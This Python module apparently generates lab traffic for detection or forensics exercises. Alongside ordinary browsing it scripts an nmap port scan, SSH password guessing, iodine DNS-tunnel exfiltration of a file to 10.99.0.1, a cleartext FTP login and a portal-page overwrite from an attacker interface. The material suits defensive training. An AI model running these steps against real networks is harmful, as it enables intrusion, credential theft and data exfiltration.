"""What happens on the wire, step by step, each done by a real program in the office."""
import hashlib
import pathlib
import time

import network as net
import servers
from children import Failed

HERE = pathlib.Path(__file__).resolve().parent
TUNNEL_BYTES = 16384  # carried out through DNS: some eighty questions


def incompressible(count):
    """The same bytes each time, which the tunnel's compression cannot shrink."""
    blocks = (hashlib.sha256(str(i).encode()).digest() for i in range(count // 32 + 1))
    return b"".join(blocks)[:count]


class LiveTraffic:
    """Each step returns when its last deciding packet was sent."""

    def __init__(self, children, network, folder, stored_tunnel=None):
        """`stored_tunnel`: a capture to send instead where no tunnel can be made (/dev/net/tun)."""
        self.children, self.network, self.folder = children, network, folder
        self.stored_tunnel = stored_tunnel
        (folder / "carried-out.txt").write_bytes(incompressible(TUNNEL_BYTES))

    def do(self, step):
        getattr(self, step)()

    def office(self, *argv, **kwargs):
        return self.children.run(self.network.in_office(*argv), **kwargs)

    def background(self):
        """One bit of ordinary browsing."""
        for url in (f"http://{servers.NEWS_HOST}/", f"https://www.{servers.NEWS_HOST}/",
                    f"http://{servers.PORTAL_HOST}/"):
            self.office("curl", "-skS", "-o", "/dev/null", "-m", "5", url)
        self.office("getent", "ahostsv4", "khong-co-that.example", check=False)

    def port_scan(self):
        self.office("nmap", "-n", "-Pn", "-sS", "--max-retries", "0", "-T4", "-p", "1-100", net.ARCHIVE)

    def ssh_password_guessing(self):
        for i in range(12):
            self.office("sshpass", "-p", f"MatKhau{i}", "ssh", "-F", "none", "-o", "StrictHostKeyChecking=no",
                        "-o", "UserKnownHostsFile=/dev/null", "-o", "PreferredAuthentications=password",
                        "-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=5", f"quantri@{net.SSH}", "true",
                        check=False)

    def dns_tunnel(self):
        if self.stored_tunnel:
            self.office("/usr/bin/python3", "-B", HERE / "inject.py", self.stored_tunnel, net.INTERFACE)
            return
        client = self.children.start(
            "iodine", self.network.in_office("iodine", "-f", "-r", "-P", servers.TUNNEL_SECRET,
                                             net.SECOND_RESOLVER, servers.TUNNEL_DOMAIN))
        for _ in range(150):
            if "Connection setup complete" in self.children.last_words("iodine"):
                break
            if client.poll() is not None:
                raise Failed(f"iodine: {self.children.last_words('iodine')}")
            time.sleep(0.1)
        self.office("curl", "-sS", "-m", "20", "-T", self.folder / "carried-out.txt", "http://10.99.0.1/goi.bin")
        self.children.end("iodine")

    def expired_certificate(self):
        self.office("curl", "-skS", "-o", "/dev/null", "-m", "5", f"https://{servers.EXPIRED_HOST}/")

    def cleartext_login(self):
        self.office("curl", "-sS", "-o", "/dev/null", "-m", "5", "-u", f"{servers.FTP_USER}:{servers.FTP_SECRET}",
                    "ftp://ftp.ioc.example/bao-cao.txt")

    def lookalike_lookup(self):
        self.office("curl", "-sS", "-o", "/dev/null", "-m", "5", f"http://{servers.LOOKALIKE}/")

    def portal_upload(self):
        self.office("curl", "-sS", "-m", "5", "--interface", net.ATTACKER, "-T", self.folder / "injected.html",
                    f"http://{servers.PORTAL_HOST}/index.html")
